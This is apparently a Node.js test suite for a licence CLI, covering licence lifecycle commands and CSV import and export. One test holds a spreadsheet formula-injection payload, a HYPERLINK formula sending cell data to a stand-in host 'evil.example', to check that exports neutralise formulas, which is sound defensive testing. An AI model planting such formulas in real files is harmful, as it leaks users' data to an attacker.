// quoinctl licence: what a vendor does by hand, and how licences come from another system and go to one (issue, import,
// export).
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { writeFileSync } from 'node:fs';
import path from 'node:path';
import { after, before, describe, test } from 'node:test';

import { check, code, Licences } from '../lib/licences.mjs';
import { ok } from '../lib/setup.mjs';
import { until } from '../lib/wait.mjs';

let w, http;
const ctl = (...args) => w.stack.ctl('licence', ...args, '--app', 'memorygraph');
const issue = async (...args) => {
	const [license_key, id] = (await ctl('issue', ...args)).trim().split(' ');
	return { license_key, id };
};
const fails = (args, why) => assert.rejects(ctl(...args), (e) => why.test(e.stderr) || assert.fail(e.stderr));
const becomes = (l, what) => until(`it is ${what}`, async () => (await code(http, l)) === what, { within: 5000 });

before(async () => {
	w = await Licences.open('memorygraph');
	http = w.http;
});
after(() => w?.close());

describe('licence', () => {
	test('issue, show, list, renew, suspend, reinstate, transfer, revoke', async () => {
		const [a, b] = [await w.person('a'), await w.person('b')];
		const l = await issue('--plan', 'pro', '--user', a.email, '--days', '30', '--devices', '2', '--name', 'Für Ann', '--metadata', '{"order":"A-17"}');
		assert.match(l.license_key, /^[A-Z]+-[A-Z]+-/);
		assert.equal(await code(http, l), 'VALID');
		const shown = await ctl('show', l.license_key);
		assert.match(shown, /^devices +1 of 2$/m);
		assert.match(shown, /^metadata +\{"order": ?"A-17"\}$/m);
		assert.match(await ctl('list', '--user', a.email), new RegExp(`^${l.id} ${l.license_key} ACTIVE +pro +1/2 ${a.id} `, 'm'));
		await ctl('suspend', l.id);
		await becomes(l, 'SUSPENDED');
		await ctl('reinstate', l.license_key);
		await becomes(l, 'VALID');
		await ctl('renew', '--until', '2031-01-01T00:00:00Z', l.id);
		await until('it is longer', async () => (await check(http, l)).expires_at === '2031-01-01T00:00:00Z', { within: 5000 });
		await ctl('transfer', '--user', b.email, l.id);
		assert.equal(ok(await b.as.get(`/api/v1/licenses/${l.id}`)).license.devices, 0);
		await ctl('revoke', l.id);
		await becomes(l, 'REVOKED');
		await fails(['renew', l.id], /cannot be done/);
		const by = await w.stack.rows(`SELECT action, details ->> 'by' FROM audit_logs WHERE resource_id = '${l.id}' AND action LIKE 'licence.%' ORDER BY seq`);
		assert.deepEqual(by, ['created', 'suspended', 'reinstated', 'renewed', 'transferred', 'revoked'].map((v) => [`licence.${v}`, 'operator']));
	});

	test('what cannot be is said', async () => {
		await fails(['issue', '--plan', 'gold'], /no such plan/);
		await fails(['issue', '--plan', 'pro', '--user', 'nobody@example.com'], /not found/i);
		await fails(['issue', '--plan', 'pro', '--devices', 'many'], /--devices/);
		await fails(['issue', '--plan', 'pro', '--kind', 'floating'], /./);
		await fails(['show', 'NOTHING-LIKE-IT'], /not found/i);
		await fails(['show'], /Usage/);
		await fails(['grow', 'x'], /Usage/);
	});
});

describe('import and export', () => {
	const file = (text) => {
		const name = path.join(w.stack.state, `licences-${randomBytes(4).toString('hex')}.csv`);
		writeFileSync(name, text);
		return name;
	};

	test('keys of another maker are kept, and are good at once', async () => {
		const who = await w.person('old');
		const tag = randomBytes(6).toString('hex');
		const foreign = `AbC-${tag}-1/x`;
		assert.equal(await code(http, foreign), 'NOT_FOUND');
		const csv = `\ufefflicense_key,email,plan,expires_at,status,max_devices,metadata,name\r\n${foreign},${who.email.toUpperCase()},pro,,,3,"{""from"":""a, b""}","two\nlines"\r\n\r\n${tag}-suspended,,pro,2030-01-01T00:00:00Z,SUSPENDED,,,\n${tag}-over,,pro,2020-01-01T00:00:00Z,EXPIRED,,,`;
		assert.equal(await ctl('import', '--dry-run', file(csv)), '3 would be imported\n');
		assert.equal(await code(http, foreign), 'NOT_FOUND');
		assert.equal(await ctl('import', file(csv)), '3 imported\n');
		await until('workers look for keys of other makers', async () => {
			for (let n = 0; n < 12; n++)
				if ((await code(http, foreign)) !== 'VALID')
					return false;
			return true;
		}, { within: 5000 });
		assert.equal(await code(http, foreign.toLowerCase()), 'NOT_FOUND');
		assert.deepEqual([await code(http, `${tag}-suspended`), await code(http, `${tag}-over`)], ['SUSPENDED', 'EXPIRED']);
		const [l] = ok(await who.as.get('/api/v1/licenses')).licenses;
		assert.deepEqual([l.license_key, l.metadata, l.name, l.max_devices, l.imported, l.plan], [foreign, { from: 'a, b' }, 'two\nlines', 3, true, 'pro']);

		// Out, and in again elsewhere: nothing is lost on the way.
		const out = await ctl('export');
		assert.ok(out.includes(foreign));
		const mine = `${out.split('\n')[0]}\n${out.slice(out.indexOf(foreign), out.indexOf(`${tag}-suspended`))}`;
		await w.stack.rows(`DELETE FROM licenses WHERE license_key = '${foreign}'`);
		assert.equal(await ctl('import', file(mine)), '1 imported\n');
		const [again] = ok(await who.as.get('/api/v1/licenses')).licenses;
		const kept = ({ id, updated_at, checked_in_at, devices, ...rest }) => rest;
		assert.deepEqual(kept(again), kept(l));
	});

	test('what a spreadsheet would take for a formula is a text there, and comes back as it was', async () => {
		const tag = randomBytes(6).toString('hex');
		const keys = [`=${tag}`, `+${tag}`, `-${tag}`, `@${tag}`, `'${tag}`, `'=${tag}`];
		const quote = (x) => (/^['=+@-]/.test(x) ? `'${x}` : x);
		const csv = `license_key,name,max_devices\n${keys.map((k) => `${quote(k)},"'=HYPERLINK(""http://evil.example?""&A1,""x"")",-1`).join('\n')}\n`;
		assert.equal(await ctl('import', file(csv)), '6 imported\n');
		const kept = async () => (await w.stack.rows(`SELECT license_key, name, max_devices FROM licenses WHERE license_key LIKE '%${tag}' ORDER BY id`));
		const were = await kept();
		assert.deepEqual(were, keys.map((k) => [k, '=HYPERLINK("http://evil.example?"&A1,"x")', '-1']));
		const out = (await ctl('export')).split('\n');
		const mine = out.filter((l) => l.includes(tag));
		assert.deepEqual(mine.filter((l) => !l.startsWith("'") || !l.includes(`,"'=HYPERLINK`)), []);
		await w.stack.rows(`DELETE FROM licenses WHERE license_key LIKE '%${tag}'`);
		assert.equal(await ctl('import', file(`${[out[0], ...mine].join('\n')}\n`)), '6 imported\n');
		assert.deepEqual(await kept(), were);
	});

	test('every line that is wrong is named, and then nothing is kept', async () => {
		const tag = randomBytes(6).toString('hex');
		const bad = file(`license_key,email,plan,expires_at,max_devices\n${tag}-good,,pro,,\n${tag}-good,,pro,,\nshort,,pro,,\n${tag}-gold,,gold,,\n${tag}-who,nobody@example.com,pro,,\n${tag}-date,,pro,soon,\n${tag}-none,,pro,,0\n${tag}-few,,pro\n`);
		await assert.rejects(ctl('import', bad), (e) => {
			for (const [line, why] of [[3, 'there already'], [4, 'do not fit'], [5, 'no such plan'], [6, 'no such user'], [7, 'expires_at'], [8, 'do not fit'], [9, 'number of fields']])
				assert.match(e.stderr, new RegExp(`^line ${line}: .*${why}`, 'm'), e.stderr);
			assert.match(e.stderr, /7 of 8 refused, nothing is imported/);
			return true;
		});
		assert.equal(await w.stack.one(`SELECT count(*) FROM licenses WHERE license_key LIKE '${tag}%'`), '0');
	});

	test('what is no such file is refused', async () => {
		for (const [text, why] of [['', /cannot be read/], ['license_key,colour\nx,y\n', /colour: there is no such column/], ['email\nx\n', /license_key: this column is missing/], ['license_key\n"abc', /line 2: a quote has no end/], ['license_key\nab"c\n', /line 2: a quote/]])
			await fails(['import', file(text)], why);
		await fails(['import', '/nonexistent.csv'], /cannot be read/);
	});
});
